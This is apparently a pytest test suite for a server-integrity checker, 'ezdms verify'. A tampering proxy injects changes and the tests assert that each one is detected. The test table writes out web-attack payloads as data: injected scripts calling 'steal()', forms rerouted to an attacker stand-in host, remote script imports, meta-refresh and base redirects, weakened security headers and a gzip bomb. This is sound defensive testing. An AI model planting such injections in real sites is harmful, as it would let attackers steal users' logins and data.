"""Whatever is changed between a server and its visitors, `ezdms verify` finds it, and nothing else."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator

import pytest

from ezdms import __version__
from ezdms.security import CONTENT_SECURITY_POLICY, HEADERS
from ezdms.verify import FAILED, OK, verify
from ezdms.verify.report import shown
from tests.conftest import Server
from tests.contract.misbehaving import (
    EVIL,
    Change,
    Exchange,
    Misbehaving,
    accept_foreign,
    add,
    at,
    cut_short,
    drop,
    flip,
    give_cookie,
    in_page,
    lead_elsewhere,
    lose,
    make_bomb,
    make_huge,
    post_from_elsewhere,
    set_to,
    weaken_errors,
)
from tests.contract.reports import names, said


@pytest.fixture
async def proxy(shared_server: Server) -> AsyncIterator[Misbehaving]:
    """Between verify and a server that is as it must be."""
    async with Misbehaving(shared_server) as between:
        yield between


def only_for_cookies(exchange: Exchange) -> None:
    """To somebody who seems to be logged in."""
    if "cookie" in exchange.asked:
        exchange.replace("cannot read", "can read")


def tag_wrongly(exchange: Exchange) -> None:
    """Whoever comes again is told that nothing changed, whatever did."""
    exchange.set("ETag", '"00000000000000000000000000000000"')


def come_anew(exchange: Exchange) -> None:
    """As if nobody could have it already."""
    if exchange.status == 304:
        exchange.status, exchange.body = 200, b"another"


def let_in(exchange: Exchange) -> None:
    """Without a session."""
    exchange.status = 200


PAGE, FRONT = "page /", "<h1 data-host-name></h1>"
FORM = '<form autocomplete="off">'
CASES: dict[str, tuple[Change, set[str]]] = {
    "one byte of JavaScript": (at("js/crypto.js", flip), {"files", "file js/crypto.js"}),
    "one byte of vendored JavaScript": (
        at("vendor/htmx-4.0.1.esm.min.js", flip),
        {"files", "file vendor/htmx-4.0.1.esm.min.js"},
    ),
    "one byte of a script that no public page loads": (at("js/qr-code.js", flip), {"files", "file js/qr-code.js"}),
    "one byte of CSS": (at("css/session.css", flip), {"files", "file css/session.css"}),
    "one byte of a font": (
        at("fonts/inter-latin-wght-normal.woff2", flip),
        {"files", "file fonts/inter-latin-wght-normal.woff2"},
    ),
    "one byte of the icon": (at("icon.svg", flip), {"files", "file icon.svg"}),
    "a script with another meaning of its bytes": (
        at("js/boot.js", set_to("Content-Type", "text/javascript; charset=utf-7")),
        {"files", "file js/boot.js"},
    ),
    "a page with another meaning of its bytes": (
        at("/", set_to("Content-Type", "text/html; charset=iso-2022-jp")),
        {PAGE},
    ),
    "a file that is missing": (at("js/vault.js", lose), {"files", "file js/vault.js", "Cache-Control"}),
    "a script tag": (in_page("</head>", '<script src="/static/more.js"></script></head>'), {PAGE, "loads"}),
    "an inline script": (in_page("</head>", "<script>steal()</script></head>"), {PAGE}),
    "an inline event handler": (in_page("<body ", '<body onload="steal()" '), {PAGE}),
    "an hx-post": (in_page(FORM, '<form autocomplete="off" hx-post="/steal">'), {PAGE, "loads"}),
    "an hx-post elsewhere": (in_page(FORM, f'<form autocomplete="off" hx-post="{EVIL}">'), {PAGE, "loads"}),
    "a form that is sent": (in_page(FORM, '<form autocomplete="off" action="/steal" method="post">'), {PAGE, "loads"}),
    "a name for the Login PIN": (in_page('<input id="login-pin"', '<input name="pin" id="login-pin"'), {PAGE}),
    "a meta refresh": (
        in_page("<title>", f'<meta http-equiv="refresh" content="0; url={EVIL}"><title>'),
        {PAGE, "loads"},
    ),
    "a base": (in_page("<title>", f'<base href="{EVIL}/"><title>'), {PAGE, "loads"}),
    "an import map": (in_page("<title>", '<script type="importmap">{"imports":{}}</script><title>'), {PAGE}),
    "a frame": (in_page(FRONT, f'<iframe src="{EVIL}"></iframe>{FRONT}'), {PAGE, "loads"}),
    "a frame with its page inside": (
        in_page(FRONT, f"<iframe srcdoc=\"<img src='{EVIL}/p.png'>\"></iframe>{FRONT}"),
        {PAGE, "loads"},
    ),
    "an image elsewhere": (in_page(FRONT, f'<img src="{EVIL}/p.png">{FRONT}'), {PAGE, "loads"}),
    "an image elsewhere for sharp screens": (in_page(FRONT, f'<img srcset="{EVIL}/p.png 2x">{FRONT}'), {PAGE, "loads"}),
    "a style attribute": (
        in_page(FRONT, f'<h1 data-host-name style="background: url({EVIL}/p)"></h1>'),
        {PAGE, "loads"},
    ),
    "a style element": (in_page("<title>", f"<style>@import '{EVIL}/x.css';</style><title>"), {PAGE, "loads"}),
    "a stylesheet elsewhere": (
        in_page("<title>", f'<link rel="stylesheet" href="{EVIL}/x.css"><title>'),
        {PAGE, "loads"},
    ),
    "another word": (in_page("cannot read", "can read"), {PAGE}),
    "a comment": (in_page("<title>", "<!-- --><title>"), {PAGE}),
    "another page": (
        at("/protection", lambda exchange: exchange.replace("Not protected", "Protected")),
        {"page /protection"},
    ),
    "a url() elsewhere in CSS": (
        at("css/base.css", lambda exchange: exchange.replace("url(", f'url("{EVIL}/f"), url(')),
        {"files", "file css/base.css", "loads"},
    ),
    "an import from elsewhere": (
        at("js/dom.js", lambda exchange: exchange.replace("", f'import "{EVIL}/x.js";\n')),
        {"files", "file js/dom.js", "loads"},
    ),
    "a dynamic import from elsewhere": (
        at("js/dom.js", lambda exchange: exchange.replace("", f"import('{EVIL}/x.js');\n")),
        {"files", "file js/dom.js", "loads"},
    ),
    "a weakened policy": (
        set_to("Content-Security-Policy", CONTENT_SECURITY_POLICY.replace("script-src 'self'", "script-src 'self' *")),
        {"Content-Security-Policy"},
    ),
    "a weakened policy on errors alone": (
        weaken_errors,
        {"Content-Security-Policy"},
    ),
    "a policy that is sent twice": (
        add("Content-Security-Policy", CONTENT_SECURITY_POLICY),
        {"Content-Security-Policy"},
    ),
    **{f"no {name}": (drop(name), {name}) for name in (*HEADERS, "Cache-Control")},
    "files that are not kept": (at("js/boot.js", set_to("Cache-Control", "no-cache")), {"Cache-Control"}),
    "a page that is kept": (at("/", set_to("Cache-Control", "max-age=600")), {"Cache-Control"}),
    "a banner": (add("Server", "hypercorn-h11"), {"banner"}),
    "a banner of the language": (add("X-Powered-By", "Python"), {"banner"}),
    "a redirect elsewhere": (at("/", lead_elsewhere), {PAGE, "redirects", "Cache-Control"}),
    "a preload in a header": (at("/", add("Link", f"<{EVIL}/x.js>; rel=preload; as=script")), {"other headers"}),
    "a refresh in a header": (at("/", add("Refresh", f"0; url={EVIL}")), {"other headers"}),
    "a wider service worker": (add("Service-Worker-Allowed", "/"), {"other headers"}),
    "a source map": (add("SourceMap", f"{EVIL}/boot.map"), {"other headers"}),
    "data that is cleared": (add("Clear-Site-Data", '"storage"'), {"other headers"}),
    "reports to elsewhere": (add("Reporting-Endpoints", f'a="{EVIL}"'), {"other headers"}),
    "other sites that may read": (add("Access-Control-Allow-Origin", "*"), {"other headers"}),
    "what htmx would obey": (at("/login", add("HX-Redirect", EVIL)), {"other headers"}),
    "a page that is said to be another": (at("/", add("Content-Location", "/protection")), {"other headers"}),
    "a page that is saved and not shown": (at("/", add("Content-Disposition", "attachment")), {"other headers"}),
    "another host for the same": (add("Alt-Svc", 'h2="evil.example:443"'), {"Alt-Svc"}),
    "another port for the same": (at("/ping", add("Alt-Svc", 'h3=":4433"; ma=86400')), {"Alt-Svc"}),
    "a way elsewhere that is malformed": (at("/me", add("Alt-Svc", "h3=evil.example")), {"Alt-Svc"}),
    "an end of HSTS": (add("Strict-Transport-Security", "max-age=0"), {"Strict-Transport-Security"}),
    "a malformed HSTS": (at("/", add("Strict-Transport-Security", "max-age")), {"Strict-Transport-Security"}),
    "another page for who has a cookie": (at("/account", only_for_cookies), {"page /account"}),
    "another page for one conversation": (
        at("/c/000000000000000000000000", lambda exchange: exchange.replace("cannot read", "can read")),
        {"page /c/000000000000000000000000"},
    ),
    "an ETag of something else": (at("/welcome", tag_wrongly), {"page /welcome"}),
    "a page that comes anew to who has it": (at("/search-pin", come_anew), {"page /search-pin"}),
    "data for anybody": (at("/me", let_in), {"data"}),
    "a socket for a foreign page": (at("/ws", accept_foreign), {"foreign socket"}),
    "a socket for anybody": (at("/ws", Exchange.accept_socket), {"foreign socket", "socket"}),
    "posts of other sites": (at("/login", post_from_elsewhere), {"foreign post"}),
    "a cookie for a wrong login": (at("/login", give_cookie), {"login", "other headers"}),
    "a cookie for a reader": (at("/protection", add("Set-Cookie", "track=1")), {"other headers"}),
    "an answer that is cut short": (at("js/boot.js", cut_short), {"files", "file js/boot.js"}),
    "an answer without end": (
        at("js/boot.js", make_huge),
        {"files", "file js/boot.js"},
    ),
    "a gzip bomb": (at("css/base.css", make_bomb), {"files", "file css/base.css"}),
}


@pytest.mark.parametrize("case", list(CASES))
async def test_it_finds(proxy: Misbehaving, case: str) -> None:
    honest = await verify(proxy.url)
    assert (honest.verdict, names(honest, FAILED)) == ("passed", set())
    proxy.change, expected = CASES[case]
    report = await verify(proxy.url)
    assert report.verdict == "failed"
    assert names(report, FAILED) == expected


async def test_it_says_what_was_expected_and_what_came(proxy: Misbehaving) -> None:
    added = f'<img src="{EVIL}/p.png">'
    proxy.change = in_page(FRONT, added + FRONT)
    report = await verify(proxy.url)
    sizes = re.search(r"release's (\d{5}) bytes, SHA-256 [0-9a-f]{16}…, got (\d{5}) bytes", said(report, PAGE))
    assert sizes is not None
    assert int(sizes[2]) - int(sizes[1]) == len(added)
    assert said(report, PAGE).endswith(f"Added: {added}")
    assert said(report, "loads") == f"Expected nothing but the release's files, but / loads {EVIL}/p.png."
    proxy.change = drop("Referrer-Policy")
    assert "Expected “no-referrer” once, got nothing at GET /deployment and" in said(
        await verify(proxy.url), "Referrer-Policy"
    )


async def test_what_a_server_sends_cannot_write_over_the_verdict(proxy: Misbehaving) -> None:
    proxy.change = in_page(FRONT, '<h1 class="\x1b[2J\u202e\x9b" data-host-name></h1>')
    report = await verify(proxy.url)
    assert names(report, FAILED) == {PAGE}
    assert all(finding.sentence.isprintable() for finding in report.findings)
    assert "\N{REPLACEMENT CHARACTER}[2J" in said(report, PAGE)
    assert len(shown("a" * 100_000)) == 600


async def test_of_another_version_no_byte_is_compared_and_the_verdict_is_failed(proxy: Misbehaving) -> None:
    def be_newer(exchange: Exchange) -> None:
        if exchange.path == "/deployment":
            exchange.replace(f'"{__version__}"', '"99.0.0"')

    proxy.change = be_newer
    report = await verify(proxy.url)
    assert (report.verdict, names(report, FAILED)) == ("failed", {"version"})
    assert "its bytes cannot be compared. Install 99.0.0 here" in said(report, "version")
    assert not {finding.name for finding in report.findings} & {"files", PAGE}
    assert {"loads", "login", "foreign socket", *HEADERS} <= names(report, OK)


async def test_a_cookie_without_one_of_its_flags_is_found(proxy: Misbehaving) -> None:
    assert (await verify(proxy.url, register=True)).verdict == "passed"
    for flag in ("HttpOnly; ", "Path=/; ", "; SameSite=Lax"):

        def weaken(exchange: Exchange, flag: str = flag) -> None:
            for cookie in [value for name, value in exchange.headers if name.lower() == "set-cookie"]:
                if exchange.path == "/register":
                    assert flag.strip("; ") in cookie
                    exchange.set("Set-Cookie", re.sub(f"; {flag.strip('; ')}", "", cookie))

        proxy.change = weaken
        report = await verify(proxy.url, register=True)
        assert names(report, FAILED) == {"cookie"}, flag
        assert "account" in names(report, OK)


async def test_a_socket_that_takes_a_session_from_elsewhere_is_found(proxy: Misbehaving) -> None:
    def accept(exchange: Exchange) -> None:
        if exchange.path == "/ws" and "authorization" in exchange.asked:
            exchange.accept_socket()

    proxy.change = accept
    report = await verify(proxy.url, register=True)
    assert names(report, FAILED) == {"foreign socket with a session"}
